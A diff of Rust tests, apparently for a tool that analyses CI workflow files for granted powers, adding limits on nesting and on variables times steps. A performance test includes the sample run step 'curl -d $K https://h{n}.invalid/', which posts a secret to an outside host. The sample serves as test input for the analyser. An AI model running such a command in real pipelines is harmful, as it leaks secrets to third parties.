@@ -4,7 +4,7 @@ use std::time::Instant;
 
 use beholden::power::{self, Text, Tree};
 
-use crate::power::shown::{one, public, steps, unknowns};
+use crate::power::shown::{job, one, public, steps, unknowns};
 
 #[test]
 fn too_much_is_refused_with_a_reason() {
@@ -27,7 +27,7 @@ fn too_much_is_refused_with_a_reason() {
         (
             "deep",
             format!("on: push\njobs: {}1{}", "[".repeat(50_000), "]".repeat(50_000)),
-            "not YAML",
+            "brackets at once",
         ),
     ] {
         let powers = one(&text);
@@ -81,7 +81,16 @@ fn calls_that_multiply_are_cut_off() {
 }
 
 #[test]
-fn a_script_of_a_million_letters_is_read_in_reasonable_time() {
+fn variables_times_steps_are_cut_off() {
+    let variables: String =
+        (0..3_000).map(|n| format!("  V{n}: ${{{{ secrets.A{n} }}}}\n")).collect();
+    let list = "- run: a\n".repeat(900);
+    let powers = one(&job("push", &format!("env:\n{variables}steps:\n{list}")));
+    assert!(unknowns(&powers)[0].contains("too many variables"), "{:?}", unknowns(&powers));
+}
+
+#[test]
+fn a_script_of_thousands_of_lines_is_read_in_reasonable_time() {
     let env = "\n  env: {K: '${{ secrets.K }}'}";
     for line in [
         "curl -d $K https://h{n}.invalid/",
@@ -90,7 +99,7 @@ fn a_script_of_a_million_letters_is_read_in_reasonable_time() {
         "bash s{n}.sh",
     ] {
         let lines: String =
-            (0..15_000).map(|n| format!("    {}\n", line.replace("{n}", &n.to_string()))).collect();
+            (0..5_000).map(|n| format!("    {}\n", line.replace("{n}", &n.to_string()))).collect();
         let began = Instant::now();
         let powers = one(&steps("push", &format!("- run: |\n{lines}{env}")));
         assert!(!powers.grants().is_empty() || !powers.unknowns().is_empty());
